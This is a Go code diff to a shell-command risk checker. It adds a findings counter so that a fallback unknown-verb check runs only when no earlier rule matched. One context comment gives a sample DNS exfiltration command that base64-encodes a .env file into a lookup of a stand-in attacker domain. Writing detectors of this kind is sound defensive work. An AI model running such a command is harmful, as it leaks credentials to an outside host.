@@ -215,6 +215,9 @@ type checker struct {
 	// words the next findings matched (see because).
 	explaining bool
 	matched    []string
+	// adds counts findings, so a command's later checks can tell whether
+	// the rules before them found anything (unknownVerbs).
+	adds int
 }
 
 func (c *checker) add(cats ...string) {
@@ -223,6 +226,7 @@ func (c *checker) add(cats ...string) {
 			c.set = map[string]bool{} // most calls find nothing
 		}
 		c.set[k] = true
+		c.adds++
 		if !c.explaining {
 			continue // Check: the set is all it needs
 		}
@@ -359,6 +363,7 @@ func (c *checker) command(u unit) {
 	if cmd.Dynamic || cmd.Name == "" || inert(cmd) {
 		return
 	}
+	before := c.adds
 	c.evalDownloads(u)
 	c.secretStore(u)
 	c.applyUnreviewed(u)
@@ -490,6 +495,9 @@ func (c *checker) command(u unit) {
 	c.cloud(u)
 	c.database(u)
 	c.hidden(u)
+	if c.adds == before {
+		c.unknownVerbs(u)
+	}
 	if shell.NeedsNetwork(cmd) {
 		// "dig $(cat .env | base64).attacker.example": a network command
 		// whose words carry a secret.
